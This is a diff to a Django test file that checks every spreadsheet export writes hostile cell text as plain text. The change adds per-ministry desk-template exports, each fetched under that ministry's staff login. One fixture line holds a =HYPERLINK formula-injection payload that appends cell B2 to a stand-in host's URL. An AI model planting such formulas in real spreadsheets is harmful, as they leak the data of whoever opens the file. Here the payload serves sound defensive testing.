@@ -22,6 +22,7 @@ pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]
 FORMULA = '=HYPERLINK("http://example.invalid/?x="&B2,"사과")'
 VERTICAL_TAB = "함양 산삼\x0b항노화 과제"
 PANEL = "제2분과: 발표평가"
+DESK_MINISTRIES = ("MOJ", "MOIS", "MAFRA", "MSS", "MCST", "MOF")
 
 
 @pytest.fixture
@@ -58,6 +59,8 @@ def export_urls(run) -> dict[str, str]:
     for line in support_lines():  # the lines the dashboard's support table offers
         urls[f"rows support {line}"] = (reverse("tracking:rows", args=[contest.pk, "support"])
                                         + f"?line={line}&export=xlsx")
+    for code in DESK_MINISTRIES:  # each ministry's desk template, fetched by that ministry's staff
+        urls[f"desk-template {code}"] = reverse("tracking:desk-template")
     return urls
 
 
@@ -73,10 +76,11 @@ def _cells(response) -> list[object]:
     return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
 
 
-def test_every_export_writes_hostile_text_as_text(client, council, hostile):
-    client.force_login(council)
+def test_every_export_writes_hostile_text_as_text(client, council, staff, hostile):
     titles_seen = set()
     for label, url in export_urls(hostile).items():
+        kind, _, which = label.partition(" ")
+        client.force_login(staff[which] if kind == "desk-template" else council)
         response = client.get(url)
         assert response.status_code == 200, (label, response.status_code)
         assert "attachment" in response["Content-Disposition"]
